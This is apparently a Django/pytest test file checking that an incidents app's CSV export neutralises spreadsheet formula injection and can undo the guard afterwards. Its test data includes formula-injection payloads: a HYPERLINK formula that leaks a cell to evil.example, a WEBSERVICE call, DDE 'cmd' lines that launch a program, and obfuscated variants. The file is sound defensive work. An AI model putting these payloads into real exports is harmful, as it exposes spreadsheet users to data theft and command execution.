"""A cell that a spreadsheet would run as a formula is guarded, and gives back what it held."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.db.models import TextField, Value
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from articles.models import Article
from incidents.formats import csv as csv_format
from incidents.models import Incident
from incidents.tables.cells import Cell
from incidents.tables.columns import Kind, parted
from tests import hostile, make

from .doors import COUNTS_CSV, CSV, table

pytestmark = pytest.mark.django_db

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("https://evil.example/?x="&A1;"click")',
    '=WEBSERVICE("http://127.0.0.1/")',
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00ad=1+1",
    "\u200e\u200f=1+1",
    "\u200c+1",
    "\u200d@x",
    "\u2060-1",
    "\u00a0=1+1",
    "\u2003=1+1",
    "  =1+1",
    " \t \ufeff\u200b @x",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "−1",
    "'=1+1",
    "'' @x",
)
PLAIN = (
    "",
    "Fire in a depot",
    "1+1",
    "a=1",
    "a@b.example",
    "'quoted'",
    '"=1+1"',
    "2-3",
    "00123",
    "火",
)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_is_guarded(cell: str) -> None:
    assert csv_format.guarded(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", PLAIN)
def test_a_plain_cell_is_left_as_it_is(cell: str) -> None:
    assert csv_format.guarded(cell) == cell


@given(st.text(st.sampled_from("'=+-@\t\r\n \ufeff＝a1\"")) | st.text())
def test_a_guard_is_taken_away_again_and_nothing_else(text: str) -> None:
    cell = csv_format.guarded(text)

    assert csv_format.unguarded(cell) == text
    assert csv_format.guarded(text)[:1] not in csv_format.FORMULA


def written(edition: Incident, *, raw: str = "") -> dict[str, str]:
    """Return the line of a draft, as its writer takes it out."""
    said = f"state=draft&series=all{raw and '&raw=1'}"
    client = Client()
    client.force_login(User.objects.get(username="writer"))
    rows = table(f"{CSV}?{said}", client)
    return next(row for row in rows if row["reference"] == edition.reference)


@pytest.fixture
def draft(db: None) -> Incident:
    return make.incident(
        state="draft",
        author=make.user("writer", staff=True),
        citations=[make.article()],
        locations=[{"country": "MT", "primary": True}],
        targets=[{"country": "MT", "primary": True}],
    )


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_column_lets_a_formula_through(cell: str, draft: Incident) -> None:
    """Texts are put in past the rules that keep most of these out of the database."""
    put(draft, cell)

    guarded, raw = written(draft), written(draft, raw="1")

    texts = ("title", "place", "targets", "sources", "summary")
    assert {guarded[name] for name in texts} == {f"'{cell}"}
    assert {raw[name] for name in texts} == {cell}


def put(draft: Incident, text: str) -> None:
    """Put a text wherever people write one, past the fields that would clean it."""
    as_it_is = Value(text, TextField())
    own = Incident.objects.filter(pk=draft.pk)
    own.update(title=as_it_is, summary=as_it_is)
    draft.locations.update(place=as_it_is)
    draft.targets.update(name=as_it_is)
    Article.objects.filter(pk__in=draft.citations.values("article")).update(url=as_it_is)


def test_databases_and_python_guard_alike(draft: Incident) -> None:
    texts = [chr(code) + "=1" for code in range(1, 0x3100)]
    texts += [
        f"{first}{second}1" for first in "'=+-@ ＝a\ufeff\u200b\U000e0020" for second in "'=-b"
    ]

    for start in range(0, len(texts), 1000):
        some = texts[start : start + 1000]
        cells = [
            Cell(str(n), str(n), Kind.TEXT, Value(text, TextField())) for n, text in enumerate(some)
        ]
        found = Incident.objects.filter(pk=draft.pk)
        _header, line = read(b"".join(csv_format.write(found, cells)).decode())
        assert line == [csv_format.guarded(text) for text in some]


@settings(max_examples=40, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1))
def test_a_guarded_cell_gives_back_what_the_database_holds(draft: Incident, text: str) -> None:
    put(draft, text)

    cell = written(draft)["title"]

    assert cell == csv_format.guarded(text)
    assert csv_format.unguarded(cell) == text


@given(st.lists(st.text(st.sampled_from("\\; ab"), min_size=1)))
def test_a_joined_cell_gives_back_its_texts(texts: list[str]) -> None:
    def escaped(text: str) -> str:
        return text.replace("\\", "\\\\").replace("; ", "\\; ")

    assert parted("; ".join(escaped(text) for text in texts)) == texts


def test_names_that_hold_the_separator_are_told_apart(draft: Incident) -> None:
    names = ["Depot; gate 2", "C:\\; d", "plain"]
    for name in names:
        draft.targets.create(country="MT", name=name)

    assert parted(written(draft)["targets"]) == names


def test_the_nasty_cells_beside_the_project_are_guarded_too() -> None:
    for cell in hostile.beside("csv_cell_export"):
        out = csv_format.guarded(cell)
        assert out in (cell, f"'{cell}")
        assert out.lstrip("\u00ad\u200e\u200f\ufeff\u200b \t\r\n")[:1] not in tuple("=+-@＝＋－＠−")
        assert read(csv_row(out)) == [[out]]


def csv_row(cell: str) -> str:
    out = io.StringIO()
    csv.writer(out).writerow([cell])
    return out.getvalue()


def test_a_label_that_a_spreadsheet_would_run_is_guarded() -> None:
    formula = make.actor("=HYPERLINK(1)")
    make.incident(country="MT", claims=[{"actor": formula, "state": "RU"}])

    rows = table(f"{COUNTS_CSV}?by=actor&country=MT")

    assert [row["label"] for row in rows] == ["'=HYPERLINK(1)", "Total"]
